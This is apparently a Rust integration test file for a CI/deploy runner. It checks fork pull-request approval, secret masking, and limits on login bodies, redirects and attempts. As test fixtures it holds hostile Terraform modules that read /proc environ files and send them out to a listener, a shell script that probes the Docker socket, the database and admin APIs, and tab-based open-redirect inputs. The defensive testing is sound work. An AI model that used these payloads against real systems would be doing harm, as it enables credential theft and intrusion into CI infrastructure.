//! Code from strangers never reaches the runner's secrets: the pull request policy, held
//! jobs and their approval, a hostile fork run against the real runner binary, masking in
//! errors, and the limits a stranger who can reach the runner runs into.
//! Needs `WEBAPP_STATIC_BIN`, `RUNNER_TEST_REGISTRY`, `TERRAFORM_BIN` and the base image
//! `local/busybox:1` (scripts/services.sh start makes it); `scripts/test` provides all.

use std::collections::BTreeMap;
use std::path::Path;
use std::process::Command;
use std::time::Duration;

use crate::common::fake_github::{FakeGitHub, GITHUB_TOKEN, start_runner, with_github};
use crate::common::process::Runner;
use crate::common::*;
use base64::Engine as _;
use serde_json::Value;

const BIN: &str = env!("CARGO_BIN_EXE_runner");

/// The fixture pull request, opened from `head_repository` at `sha` against master.
fn pull_request(action: &str, head_repository: Option<&str>, sha: &str) -> Vec<u8> {
    let mut body = fixture_json("pull_request.opened.payload.json");
    body["action"] = action.into();
    body["pull_request"]["head"]["sha"] = sha.into();
    match head_repository {
        Some(name) => {
            body["pull_request"]["head"]["repo"]["full_name"] = name.into();
            body["pull_request"]["head"]["repo"]["fork"] = (name != REPOSITORY).into();
        }
        None => body["pull_request"]["head"]["repo"] = Value::Null,
    }
    serde_json::to_vec(&body).expect("json")
}

const FORK: &str = "stranger/Hello-World";

async fn job_count(runner: &TestRunner) -> i64 {
    runner.count("jobs").await
}

#[tokio::test]
async fn a_forks_pull_request_runs_nothing_unless_the_policy_says_approve() {
    let sha = "a".repeat(40);
    let runner = TestRunner::start().await;
    // The default policy is same-repository: a fork's delivery is answered and ignored.
    for head in [Some(FORK), None] {
        let response = runner
            .deliver("pull_request", &pull_request("opened", head, &sha))
            .await;
        assert_eq!(response.status(), 200);
        let body: Value = response.json().await.expect("json");
        assert_eq!(body["ignored"], "pull request from a fork", "{body}");
    }
    assert_eq!(job_count(&runner).await, 0, "nothing was queued for a fork");
    // GitHub's head.repo.fork is true for a fork of a fork too; what counts is the name.
    let mut same = fixture_json("pull_request.opened.payload.json");
    same["pull_request"]["head"]["sha"] = sha.clone().into();
    same["pull_request"]["head"]["repo"]["fork"] = true.into();
    let response = runner
        .deliver("pull_request", &serde_json::to_vec(&same).expect("json"))
        .await;
    assert_eq!(response.status(), 202, "a branch of the repository itself runs");
    runner.stop().await;

    let off = TestRunner::start_with(|dir| {
        let mut config = default_config(dir);
        config.projects[0].pull_requests = Some("off".into());
        config
    })
    .await;
    let response = off
        .deliver("pull_request", &pull_request("opened", Some(REPOSITORY), &sha))
        .await;
    assert_eq!(response.status(), 200);
    let body: Value = response.json().await.expect("json");
    assert!(body["ignored"].as_str().is_some_and(|r| r.contains("off")), "{body}");
    assert_eq!(job_count(&off).await, 0);
    off.stop().await;
}

fn approve_forks(mut config: config::Config) -> config::Config {
    config.projects[0].pull_requests = Some("approve-forks".into());
    config
}

async fn queued(response: reqwest::Response) -> i64 {
    assert_eq!(response.status(), 202);
    response.json::<Value>().await.expect("json")["job_id"]
        .as_i64()
        .expect("job id")
}

/// Against a runner process at `base`: a pull request delivery signed with `secret`,
/// answered 202; the queued job's id.
async fn deliver_pull_request(client: &reqwest::Client, base: &str, secret: &str, body: Vec<u8>) -> i64 {
    let response = client
        .post(format!("{base}/webhooks/github"))
        .header("content-type", "application/json")
        .header("x-github-event", "pull_request")
        .header("x-github-delivery", unique_delivery_id())
        .header("x-hub-signature-256", sign(secret, &body))
        .body(body)
        .send()
        .await
        .expect("POST");
    queued(response).await
}

async fn approve_as_admin(client: &reqwest::Client, base: &str, admin: &str, job_id: i64) {
    let approve = client
        .post(format!("{base}/api/jobs/{job_id}/approve"))
        .bearer_auth(admin)
        .send()
        .await
        .expect("approve");
    assert_eq!(approve.status(), 200);
}

/// The job once it has ended, polled every 100 ms at most `polls` times (else as last seen).
async fn ended_job(client: &reqwest::Client, base: &str, job_id: i64, polls: usize) -> Value {
    let mut job = Value::Null;
    for _ in 0..polls {
        job = client
            .get(format!("{base}/api/jobs/{job_id}"))
            .send()
            .await
            .expect("GET")
            .json()
            .await
            .expect("json");
        if matches!(job["state"].as_str(), Some("succeeded" | "failed" | "cancelled")) {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    job
}

async fn get_text(client: &reqwest::Client, url: String) -> String {
    client.get(url).send().await.expect("GET").text().await.expect("text")
}

async fn wait_until_ended(runner: &TestRunner, job_id: i64) -> Value {
    for _ in 0..1200 {
        let job = runner.get_json(&format!("/api/jobs/{job_id}")).await;
        if matches!(
            job["state"].as_str(),
            Some("succeeded" | "failed" | "cancelled" | "superseded")
        ) {
            return job;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("job {job_id} did not end");
}

#[tokio::test]
async fn a_held_fork_pull_request_runs_only_once_approved_and_each_push_needs_a_new_approval() {
    let registry = required_env(
        "RUNNER_TEST_REGISTRY",
        "start a registry with scripts/services.sh start",
    );
    let unique = format!("{}{}", std::process::id(), free_port());
    let project = format!("fork{unique}");
    let image = format!("runner-fork-{unique}");
    let host_port = free_port();
    let repo_dir = tempfile::tempdir().expect("tempdir");
    let repo = repo_dir.path().to_owned();
    let first = webapp_repo(&repo, WEBAPP_DOCKERFILE);
    let _cleanup = EngineCleanup {
        container: format!("runner-{project}-production"),
        references: vec![format!("{image}:*"), format!("{registry}/{image}:*")],
    };
    let fake = FakeGitHub::default();
    let api = fake.start().await;
    let runner = start_runner(|dir| {
        with_github(
            approve_forks(pipeline_config(dir, &project, &repo, &image, &registry, host_port, 20)),
            &api,
            false,
        )
    })
    .await;

    let held = queued(
        runner
            .deliver("pull_request", &pull_request("opened", Some(FORK), &first))
            .await,
    )
    .await;
    // Workers look for work every half second; give them several chances to misbehave.
    tokio::time::sleep(Duration::from_secs(2)).await;
    let job = runner.get_json(&format!("/api/jobs/{held}")).await;
    assert_eq!(job["state"], "awaiting_approval", "{job}");
    assert_eq!(job["held_for"], "fork");
    assert_eq!(job["attempts"], 0, "never claimed");
    assert!(
        job["steps"]
            .as_array()
            .is_none_or(|s| s.iter().all(|step| step["state"] == "pending")),
        "no step ran: {job}"
    );
    assert_eq!(runner.job_log(held).await.trim(), "", "not even the checkout ran");
    assert!(containers_of_job(&project, held).is_empty());
    let page = runner.get_text(&format!("/jobs/{held}")).await;
    assert!(page.contains("comes from a fork"), "{page}");
    let waiting = eventually("a pending status that asks for approval", || {
        fake.statuses()
            .into_iter()
            .find(|(sha, state, _, description)| sha == &first && state == "pending" && description.contains("approve"))
    })
    .await;
    assert!(waiting.3.contains("fork"), "{waiting:?}");

    // An admin approves from the command line; the verify job then runs.
    let approved = tokio::process::Command::new(BIN)
        .args(["approve", &held.to_string(), "--url", &runner.base])
        .env("RUNNER_ADMIN_TOKEN", ADMIN_TOKEN)
        .output()
        .await
        .expect("runner approve");
    assert!(approved.status.success(), "{approved:?}");
    assert_eq!(
        String::from_utf8_lossy(&approved.stdout).trim(),
        format!("approved job {held}")
    );
    let done = wait_until_ended(&runner, held).await;
    assert_eq!(done["state"], "succeeded", "{done}\n{}", runner.job_log(held).await);
    let steps: Vec<&str> = done["steps"]
        .as_array()
        .expect("steps")
        .iter()
        .map(|s| s["name"].as_str().expect("name"))
        .collect();
    assert_eq!(steps, ["checkout", "build", "smoke"]);
    let again = runner
        .client
        .post(runner.url(&format!("/api/jobs/{held}/approve")))
        .bearer_auth(ADMIN_TOKEN)
        .send()
        .await
        .expect("POST");
    assert_eq!(again.status(), 409, "a finished job cannot be approved");

    // A new push to the pull request is new code: held again, and this time rejected.
    std::fs::write(repo.join("CHANGES"), "more").expect("write");
    git(&repo, &["add", "-A"]);
    git(&repo, &["commit", "--quiet", "-m", "second"]);
    let second = git(&repo, &["rev-parse", "HEAD"]);
    let next = queued(
        runner
            .deliver("pull_request", &pull_request("synchronize", Some(FORK), &second))
            .await,
    )
    .await;
    assert_eq!(
        runner.get_json(&format!("/api/jobs/{next}")).await["state"],
        "awaiting_approval"
    );
    let rejected = runner
        .client
        .post(runner.url(&format!("/api/jobs/{next}/reject")))
        .bearer_auth(ADMIN_TOKEN)
        .send()
        .await
        .expect("POST");
    assert_eq!(rejected.status(), 200);
    let job = runner.get_json(&format!("/api/jobs/{next}")).await;
    assert_eq!(job["state"], "cancelled", "{job}");
    assert!(job["error"].as_str().is_some_and(|e| e.contains("rejected")), "{job}");
    assert_eq!(job["attempts"], 0);
    assert!(containers_of_job(&project, next).is_empty());

    // A trusted push deploys, and its containers run with limits and few privileges.
    let deploy = queued(runner.deliver("push", &push_body("refs/heads/master", &second)).await).await;
    let done = wait_until_ended(&runner, deploy).await;
    assert_eq!(done["state"], "succeeded", "{done}\n{}", runner.job_log(deploy).await);
    let inspect = Command::new("docker")
        .args([
            "inspect",
            "--format",
            "{{json .HostConfig}}",
            &format!("runner-{project}-production-a"),
        ])
        .output()
        .expect("docker inspect");
    let host: Value = serde_json::from_slice(&inspect.stdout).expect("host config");
    assert_eq!(host["Memory"], 512 * 1024 * 1024);
    assert_eq!(host["NanoCpus"], 1_000_000_000_i64);
    assert_eq!(host["PidsLimit"], 256);
    assert_eq!(host["CapDrop"], serde_json::json!(["ALL"]));
    assert_eq!(host["CapAdd"], serde_json::json!(["NET_BIND_SERVICE"]));
    assert_eq!(host["SecurityOpt"], serde_json::json!(["no-new-privileges:true"]));
    runner.stop().await;
}

/// Every secret the hostile test's runner holds, by what it is.
const RUNNER_SECRETS: &[(&str, &str)] = &[
    ("HELLO_SECRET", "webhook-secret-for-the-hostile-test-0001"),
    ("RUNNER_ADMIN_TOKEN", "admin-token-for-the-hostile-test-0002"),
    ("GITHUB_TOKEN_FOR_TESTS", GITHUB_TOKEN),
    ("REGISTRY_PASSWORD", "registry-password-hostile-0003"),
    ("BUILD_SECRET", "build-secret-hostile-test-0004"),
    ("DEPLOY_CLOUD_SECRET", "deploy-cloud-secret-hostile-0005"),
    ("DB_PASSWORD", "terraform-secret-var-hostile-0006"),
    // In the runner's environment but named by no config: only a clean child
    // environment keeps it away, the mask does not know it.
    ("UNRELATED_SECRET", "unrelated-process-secret-0007"),
];
/// Given to pull request plans on purpose (read-only credentials): shown masked only.
const PULL_REQUEST_SECRET: (&str, &str) = ("PR_READONLY_SECRET", "pull-request-readonly-secret-0008");

const HOSTILE_DOCKERFILE: &str = "FROM local/busybox:1\nARG APP_COMMIT=unknown\n\
RUN echo build-env-reversed; env | rev\n\
COPY webapp /webapp\nENV PORT=5001\nEXPOSE 5001\nENTRYPOINT [\"/webapp\"]\n";

const HOSTILE_MODULE: &str = r#"
variable "image_url" {
  type = string
}

resource "terraform_data" "probe" {
  input = var.image_url
}

output "environ" {
  value = replace(file("/proc/self/environ"), "\u0000", "\n")
}

output "environ_base64" {
  value = filebase64("/proc/self/environ")
}

output "environ_reversed" {
  value = strrev(file("/proc/self/environ"))
}

output "environ_utf16" {
  value = textencodebase64(file("/proc/self/environ"), "UTF-16LE")
}
"#;

/// `text` in the forms a hostile build or module would smuggle it out in.
fn smuggled_forms(text: &str) -> Vec<String> {
    let b64 = base64::engine::general_purpose::STANDARD;
    let utf16: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    vec![
        text.to_owned(),
        b64.encode(text),
        text.chars().rev().collect(),
        // The middle of the UTF-16 base64 (its ends depend on the neighbours).
        b64.encode(&utf16)[4..40].to_owned(),
    ]
}

#[tokio::test]
async fn a_hostile_fork_reaches_no_runner_secret_in_any_page_log_artifact_or_database_row() {
    busybox_image();
    let registry = required_env(
        "RUNNER_TEST_REGISTRY",
        "start a registry with scripts/services.sh start",
    );
    let terraform = required_env("TERRAFORM_BIN", "scripts/services.sh install builds one");
    let unique = format!("{}{}", std::process::id(), free_port());
    let project = format!("hostile{unique}");
    let image = format!("runner-hostile-{unique}");
    let repo_dir = tempfile::tempdir().expect("tempdir");
    let repo = repo_dir.path().to_owned();
    let sha = webapp_repo(&repo, HOSTILE_DOCKERFILE);
    std::fs::create_dir_all(repo.join("infra")).expect("mkdir");
    std::fs::write(repo.join("infra/main.tf"), HOSTILE_MODULE).expect("write");
    git(&repo, &["add", "-A"]);
    git(&repo, &["commit", "--quiet", "-m", "helpful change"]);
    let sha_with_module = git(&repo, &["rev-parse", "HEAD"]);
    assert_ne!(sha, sha_with_module);
    let _cleanup = EngineCleanup {
        container: format!("runner-{project}-production"),
        references: vec![format!("{image}:*")],
    };

    let fake = FakeGitHub::default();
    let api = fake.start().await;
    let dir = tempfile::tempdir().expect("tempdir");
    let mut config = with_github(
        approve_forks(pipeline_config(
            dir.path(),
            &project,
            &repo,
            &image,
            &registry,
            free_port(),
            20,
        )),
        &api,
        false,
    );
    config.dashboard.public_url = None;
    config.queue = config::Queue::default();
    let secrets = |pairs: &[(&str, &str)]| -> BTreeMap<String, String> {
        pairs.iter().map(|(k, v)| ((*k).to_owned(), (*v).to_owned())).collect()
    };
    let project_config = &mut config.projects[0];
    let build = project_config.build.as_mut().expect("build");
    build.secrets = secrets(&[("DEPLOY_KEY", "BUILD_SECRET")]);
    let registry_config = project_config.registry.as_mut().expect("registry");
    registry_config.username_env = Some("REGISTRY_USER".into());
    registry_config.password_env = Some("REGISTRY_PASSWORD".into());
    project_config.terraform = Some(config::Terraform {
        secret_env: secrets(&[("CLOUD_SECRET", "DEPLOY_CLOUD_SECRET")]),
        secret_vars: secrets(&[("db_password", "DB_PASSWORD")]),
        plan_pull_requests: true,
        pull_request_env: secrets(&[("PR_PLAIN", "visible-in-the-plan")]),
        pull_request_secret_env: secrets(&[("PR_TOKEN", PULL_REQUEST_SECRET.0)]),
        ..config::terraform("infra", &dir.path().join("state.tfstate"))
    });
    let config_path = dir.path().join("runner.toml");
    config::write(&config_path, config);

    let mut env: Vec<(&str, &str)> = vec![
        ("TERRAFORM_BIN", &terraform),
        ("REGISTRY_USER", "deployer"),
        PULL_REQUEST_SECRET,
        ("RUST_LOG", "debug,sqlx=warn,hyper=warn,h2=warn,reqwest=warn"),
    ];
    env.extend(RUNNER_SECRETS.iter().copied());
    let mut runner = Runner::start_with_env(&config_path, &env);
    let base = runner.base.clone();
    let client = reqwest::Client::new();
    let webhook_secret = RUNNER_SECRETS[0].1;
    let admin = RUNNER_SECRETS[1].1;

    let body = pull_request("opened", Some(FORK), &sha_with_module);
    let job_id = deliver_pull_request(&client, &base, webhook_secret, body).await;
    approve_as_admin(&client, &base, admin, job_id).await;
    let job = ended_job(&client, &base, job_id, 1200).await;
    let get = |path: String| get_text(&client, path);
    let log = get(format!("{base}/api/jobs/{job_id}/logs")).await;
    assert_eq!(job["state"], "succeeded", "{job}\n{log}");
    let plan = get(format!("{base}/api/jobs/{job_id}/plan")).await;

    // The hostile code did run and did dump its environment: the checks below can fail.
    assert!(plan.contains("PR_PLAIN=visible-in-the-plan"), "{plan}");
    assert!(
        plan.contains("PR_TOKEN=***"),
        "the pull request's secret is masked: {plan}"
    );
    assert!(
        log.contains("=HTAP"),
        "the build's reversed environment is in the log: {log}"
    );
    assert!(
        log.contains("build secrets withheld from this pull request's build: DEPLOY_KEY"),
        "{log}"
    );
    assert!(log.contains("-lock=false"), "{log}");

    let mut surfaces = vec![
        ("job", job.to_string()),
        ("log", log),
        ("plan", plan),
        ("job page", get(format!("{base}/jobs/{job_id}")).await),
        ("deployments page", get(format!("{base}/")).await),
        ("deliveries", get(format!("{base}/api/deliveries")).await),
    ];
    let history = Command::new("docker")
        .args(["history", "--no-trunc", &format!("{image}:{sha_with_module}")])
        .output()
        .expect("docker history");
    surfaces.push(("image history", String::from_utf8_lossy(&history.stdout).into_owned()));
    let reports: Vec<String> = fake.requests().iter().map(|r| r.body.to_string()).collect();
    assert!(!reports.is_empty(), "the job was reported to GitHub");
    surfaces.push(("GitHub reports", reports.join("\n")));

    runner.terminate();
    surfaces.push(("runner log", runner.log_text()));
    surfaces.push(("database", crate::common::database::stored_text(dir.path())));

    for (name, value) in RUNNER_SECRETS {
        for form in smuggled_forms(value) {
            for (surface, text) in &surfaces {
                assert!(!text.contains(&form), "{name} ({form}) is in the {surface}");
            }
        }
    }
    for (surface, text) in &surfaces {
        assert!(
            !text.contains(PULL_REQUEST_SECRET.1),
            "the pull request secret is in the {surface}"
        );
    }
    // A file of the runner's own; a PostgreSQL server keeps its files private itself.
    if !crate::common::database::is_postgres() {
        assert_eq!(
            std::fs::metadata(dir.path().join("runner.db"))
                .map(|m| std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o777)
                .ok(),
            Some(0o600),
            "the database is readable by the runner's user only"
        );
    }
}

#[tokio::test]
async fn credentials_in_a_clone_url_stay_out_of_step_job_and_status_texts() {
    const CLONE_SECRET: &str = "ghp_cloneurlsecret0123456789";
    let fake = FakeGitHub::default();
    let api = fake.start().await;
    let runner = start_runner(|dir| {
        let mut config = default_config(dir);
        let missing = dir.join("no-such-repo").display().to_string();
        config.projects[0].clone_url = Some(format!(
            "http://x-access-token:{CLONE_SECRET}@127.0.0.1:1/{missing}.git"
        ));
        with_github(config, &api, false)
    })
    .await;
    let job_id = queued(
        runner
            .deliver("push", &push_body("refs/heads/master", &"c".repeat(40)))
            .await,
    )
    .await;
    let job = wait_until_ended(&runner, job_id).await;
    assert_eq!(job["state"], "failed");
    let statuses = eventually("a failure status", || {
        let all = fake.statuses();
        all.iter().any(|s| s.1 == "failure").then_some(all)
    })
    .await;
    let texts = [
        job.to_string(),
        runner.job_log(job_id).await,
        runner.get_text(&format!("/jobs/{job_id}")).await,
        format!("{statuses:?}"),
    ];
    assert!(texts[0].contains("checkout failed"), "{}", texts[0]);
    for text in texts {
        for form in smuggled_forms(CLONE_SECRET) {
            assert!(!text.contains(&form), "{form} in {text}");
        }
    }
    runner.stop().await;
}

#[tokio::test]
async fn bodies_logins_and_redirects_are_limited_before_anyone_is_asked_who_they_are() {
    let runner = TestRunner::start().await;
    let big = vec![b'a'; 100 * 1024];
    for path in [
        "/login",
        "/jobs/1/cancel",
        "/api/jobs/1/cancel",
        "/api/projects/hello/deploy",
    ] {
        let response = runner
            .client
            .post(runner.url(path))
            .header("content-type", "application/x-www-form-urlencoded")
            .body(big.clone())
            .send()
            .await
            .expect("POST");
        assert_eq!(response.status(), 413, "{path}");
    }
    // Without a length up front, the body is cut off while it is read.
    let chunks = futures_util_stream(big.clone());
    let response = runner
        .client
        .post(runner.url("/login"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(reqwest::Body::wrap_stream(chunks))
        .send()
        .await
        .expect("POST");
    assert_eq!(response.status(), 413);
    assert_eq!(runner.count("sessions").await, 0);
    assert_eq!(runner.count("jobs").await, 0);

    // A tab makes "/\t/evil.example" a protocol-relative URL to a browser.
    let page = runner.get_text("/login?next=/%09/evil.example").await;
    assert!(page.contains("name=\"next\" value=\"/\""), "{page}");
    let no_redirects = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .expect("client");
    let login = no_redirects
        .post(runner.url("/login"))
        .form(&[("token", ADMIN_TOKEN), ("next", "/\t/evil.example")])
        .send()
        .await
        .expect("POST");
    assert_eq!(login.status(), 303);
    assert_eq!(login.headers()["location"], "/");

    // Ten attempts a minute from one address; the eleventh is told when to come back.
    let mut answers = Vec::new();
    for _ in 0..10 {
        let response = no_redirects
            .post(runner.url("/login"))
            .form(&[("token", "not-the-token"), ("next", "/")])
            .send()
            .await
            .expect("POST");
        answers.push(response.status().as_u16());
    }
    // Two attempts (the cut-off body and the redirect above) were already counted.
    assert_eq!(answers.iter().filter(|s| **s == 401).count(), 8, "{answers:?}");
    assert_eq!(answers.last(), Some(&429), "{answers:?}");
    let limited = no_redirects
        .post(runner.url("/login"))
        .form(&[("token", ADMIN_TOKEN), ("next", "/")])
        .send()
        .await
        .expect("POST");
    assert_eq!(limited.status(), 429, "even the right token waits");
    let retry_after: u64 = limited.headers()["retry-after"]
        .to_str()
        .expect("ascii")
        .parse()
        .expect("seconds");
    assert!((1..=60).contains(&retry_after), "{retry_after}");
    runner.stop().await;
}

/// A body sent in chunks, without a Content-Length.
fn futures_util_stream(bytes: Vec<u8>) -> impl futures_core::Stream<Item = Result<Vec<u8>, std::io::Error>> {
    tokio_stream::iter(bytes.chunks(8 * 1024).map(|c| Ok(c.to_vec())).collect::<Vec<_>>())
}

#[tokio::test]
async fn changing_the_admin_token_ends_every_session_and_files_are_private() {
    let data = tempfile::tempdir().expect("tempdir");
    let database = data.path().join("runner.db");
    let config = |_: &Path| {
        let mut config = default_config(data.path());
        config.dashboard.read_access = Some("login".into());
        config
    };
    let first = TestRunner::start_with(config).await;
    let no_redirects = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .expect("client");
    let login = no_redirects
        .post(first.url("/login"))
        .form(&[("token", ADMIN_TOKEN), ("next", "/")])
        .send()
        .await
        .expect("POST");
    assert_eq!(login.status(), 303);
    let cookie = login.headers()["set-cookie"]
        .to_str()
        .expect("ascii")
        .split(';')
        .next()
        .expect("cookie")
        .to_owned();
    let with_cookie = |runner: &TestRunner| {
        no_redirects
            .get(runner.url("/api/jobs"))
            .header("cookie", cookie.clone())
            .send()
    };
    assert_eq!(with_cookie(&first).await.expect("GET").status(), 200);
    use std::os::unix::fs::PermissionsExt as _;
    let mode = |path: &Path| std::fs::metadata(path).expect("metadata").permissions().mode() & 0o777;
    if !crate::common::database::is_postgres() {
        assert_eq!(mode(&database), 0o600);
    }
    assert_eq!(mode(&data.path().join("work")), 0o700);
    first.stop().await;

    // The same database under a new admin token: the old session is over.
    let second = TestRunner::start_with_env(config, |name| match name {
        "RUNNER_ADMIN_TOKEN" => Some("a-brand-new-admin-token-9876543210".to_owned()),
        other => test_env(other),
    })
    .await;
    assert_eq!(with_cookie(&second).await.expect("GET").status(), 401);
    second.stop().await;
}

#[tokio::test]
async fn a_job_log_stops_at_its_cap_and_says_so() {
    use runner::domain::JobId;
    use runner::joblog::{JobLog, MAX_LINE_BYTES, SecretMask};
    let runner = TestRunner::start().await;
    let job_id = queued(
        runner
            .deliver("push", &push_body("refs/heads/master", &"d".repeat(40)))
            .await,
    )
    .await;
    wait_until_ended(&runner, job_id).await;
    let stored = || async {
        sqlx::query_scalar::<_, i64>("SELECT coalesce(sum(length(line) + 1), 0) FROM job_logs WHERE job_id = $1")
            .bind(job_id)
            .fetch_one(runner.pool.db())
            .await
            .expect("sum")
    };
    let before = stored().await;
    let (log, writer) = JobLog::start_capped(
        runner.pool.clone(),
        JobId::new(job_id).expect("id"),
        SecretMask::new(["split-secret-value-0123"]),
        Default::default(),
        200 * 1024,
    );
    log.stdout(&"y".repeat(MAX_LINE_BYTES + 5000));
    for _ in 0..400 {
        log.stdout(&"z".repeat(1000));
    }
    log.stdout("after the cap: split-secret-value-0123");
    drop(log);
    writer.flush().await;
    let text = runner.job_log(job_id).await;
    let added = stored().await - before;
    assert!(added <= 200 * 1024 + 200, "{added} bytes stored");
    assert!(added >= 190 * 1024, "{added} bytes stored");
    assert!(text.contains("[line cut: 5000 more bytes]"));
    assert!(text.contains("reached its cap of 204800 bytes"), "the cut is said");
    assert!(!text.contains("after the cap"));
    runner.stop().await;
}

#[tokio::test]
async fn a_secret_in_a_failed_steps_error_is_masked_there_and_in_the_jobs_error() {
    required_env("TERRAFORM_BIN", "scripts/services.sh install builds one");
    const PR_SECRET: &str = "pull-request-token-in-an-error-0011";
    let registry = required_env(
        "RUNNER_TEST_REGISTRY",
        "start a registry with scripts/services.sh start",
    );
    let unique = format!("{}{}", std::process::id(), free_port());
    let project = format!("errmask{unique}");
    let image = format!("runner-errmask-{unique}");
    let repo_dir = tempfile::tempdir().expect("tempdir");
    let repo = repo_dir.path().to_owned();
    webapp_repo(&repo, WEBAPP_DOCKERFILE);
    // Terraform names the missing file in its error: here, the environment in base64.
    std::fs::create_dir_all(repo.join("infra")).expect("mkdir");
    std::fs::write(
        repo.join("infra/main.tf"),
        "variable \"image_url\" {\n  type = string\n}\n\nresource \"terraform_data\" \"leak\" {\n  input = file(\"/nonexistent/${filebase64(\"/proc/self/environ\")}\")\n}\n",
    )
    .expect("write");
    git(&repo, &["add", "-A"]);
    git(&repo, &["commit", "--quiet", "-m", "module"]);
    let sha = git(&repo, &["rev-parse", "HEAD"]);
    let _cleanup = EngineCleanup {
        container: format!("runner-{project}-production"),
        references: vec![format!("{image}:*")],
    };
    let state = repo_dir.path().join("state.tfstate");
    let runner = TestRunner::start_with_env(
        |dir| {
            let mut config = pipeline_config(dir, &project, &repo, &image, &registry, free_port(), 20);
            config.projects[0].terraform = Some(config::Terraform {
                plan_pull_requests: true,
                pull_request_secret_env: [("PR_TOKEN".to_owned(), "PR_TOKEN_SOURCE".to_owned())].into(),
                ..config::terraform("infra", &state)
            });
            config
        },
        |name| match name {
            "PR_TOKEN_SOURCE" => Some(PR_SECRET.to_owned()),
            other => test_env(other),
        },
    )
    .await;
    let job_id = queued(
        runner
            .deliver("pull_request", &pull_request("opened", Some(REPOSITORY), &sha))
            .await,
    )
    .await;
    let job = wait_until_ended(&runner, job_id).await;
    let log = runner.job_log(job_id).await;
    assert_eq!(job["state"], "failed", "{job}\n{log}");
    let error = job["error"].as_str().expect("error");
    assert!(error.starts_with("plan failed"), "{error}");
    assert!(
        error.contains("no file exists at"),
        "terraform quoted the path: {error}"
    );
    assert!(
        error.contains("***"),
        "the secret's base64 in the path is masked: {error}"
    );
    let step_error = job["steps"]
        .as_array()
        .expect("steps")
        .iter()
        .find(|s| s["name"] == "plan")
        .and_then(|s| s["error"].as_str())
        .expect("the plan step's error")
        .to_owned();
    let page = runner.get_text(&format!("/jobs/{job_id}")).await;
    for text in [error, step_error.as_str(), log.as_str(), page.as_str()] {
        for form in smuggled_forms(PR_SECRET).into_iter().take(2) {
            assert!(!text.contains(&form), "{form} in {text}");
        }
        let b64 = base64::engine::general_purpose::STANDARD;
        for shift in ["", "a", "ab"] {
            let encoded = b64.encode(format!("{shift}PR_TOKEN={PR_SECRET}"));
            assert!(!text.contains(&encoded[8..36]), "{text}");
        }
    }
    runner.stop().await;
}

/// A module that reads every environment it can find through `/proc` (its own, its
/// parent's, every process's) and sends what it read to `listener` during the plan,
/// through a `terraform_remote_state` data source with an http backend.
fn exfiltrating_module(listener: &str) -> String {
    format!(
        r#"
variable "image_url" {{
  type = string
}}

locals {{
  ppid   = split(" ", file("/proc/self/stat"))[3]
  own    = file("/proc/self/environ")
  parent = try(file("/proc/${{local.ppid}}/environ"), "")
  every  = join("|", [for path in try(fileset("/proc", "*/environ"), []) : try(file("/proc/${{path}}"), "")])
  found  = replace("${{local.own}}|${{local.parent}}|${{local.every}}", "\u0000", "\n")
}}

data "terraform_remote_state" "exfiltrate" {{
  backend = "http"
  config = {{
    address = "http://{listener}/state?d=${{base64encode(local.found)}}"
  }}
}}

output "found" {{
  value = local.found
}}
"#
    )
}

/// A provider shipped inside the pull request: when Terraform starts it, it tries the
/// engine socket, the runner's database, Caddy's admin API, the runner's API and the
/// provider cache, and answers with one line naming what it reached (and every
/// environment it could read), which Terraform quotes in its error.
fn hostile_provider(database: &Path, caddy_admin: &str, runner_api: &str, cache: &Path) -> String {
    format!(
        r#"#!/bin/sh
report=""
try() {{ if "$@" >/dev/null 2>&1; then report="$report $name=REACHED"; else report="$report $name=refused"; fi; }}
name=engine try curl -fsS -m 2 --unix-socket /var/run/docker.sock http://engine/version
name=database try cat {database}
name=caddy try curl -fsS -m 2 {caddy_admin}/config/
name=api try curl -fsS -m 2 {runner_api}/metrics
name=cache try touch {cache}/planted
environ=$(cat /proc/*/environ 2>/dev/null | tr '\000' ' ')
echo "hostile-report$report environ: $environ"
"#,
        database = database.display(),
        cache = cache.display(),
    )
}

/// Counts the requests a listener on a host address receives, and keeps their first lines.
async fn listen_on_host() -> (String, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let listener = tokio::net::TcpListener::bind((host_address(), 0)).await.expect("bind");
    let address = listener.local_addr().expect("addr").to_string();
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let sink = std::sync::Arc::clone(&seen);
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let mut buffer = vec![0u8; 65536];
            let read = stream.read(&mut buffer).await.unwrap_or(0);
            sink.lock()
                .expect("lock")
                .push(String::from_utf8_lossy(&buffer[..read]).into_owned());
            let _ = stream
                .write_all(b"HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\n\r\n")
                .await;
        }
    });
    (address, seen)
}

#[tokio::test]
async fn a_hostile_pull_requests_terraform_reaches_no_secret_file_socket_or_neighbour_of_the_runner() {
    busybox_image();
    let registry = required_env(
        "RUNNER_TEST_REGISTRY",
        "start a registry with scripts/services.sh start",
    );
    let terraform = required_env("TERRAFORM_BIN", "scripts/services.sh install builds one");
    let caddy_admin = required_env("RUNNER_TEST_CADDY_ADMIN", "scripts/services.sh start runs Caddy");
    let unique = format!("{}{}", std::process::id(), free_port());
    let project = format!("sandboxed{unique}");
    let image = format!("runner-sandboxed-{unique}");
    let dir = tempfile::tempdir().expect("tempdir");
    let (listener, requests) = listen_on_host().await;
    let api_port = free_port();
    let runner_api = format!("http://{}:{api_port}", host_address());
    let cache = dir.path().join("work-terraform-plugins");

    let repo_dir = tempfile::tempdir().expect("tempdir");
    let repo = repo_dir.path().to_owned();
    webapp_repo(&repo, HOSTILE_DOCKERFILE);
    std::fs::create_dir_all(repo.join("infra")).expect("mkdir");
    std::fs::write(repo.join("infra/main.tf"), exfiltrating_module(&listener)).expect("write");
    git(&repo, &["add", "-A"]);
    git(&repo, &["commit", "--quiet", "-m", "read the environment"]);
    let reads_proc = git(&repo, &["rev-parse", "HEAD"]);
    let plugin_dir = repo.join("infra/terraform.d/plugins/example.com/hostile/evil/1.0.0/linux_amd64");
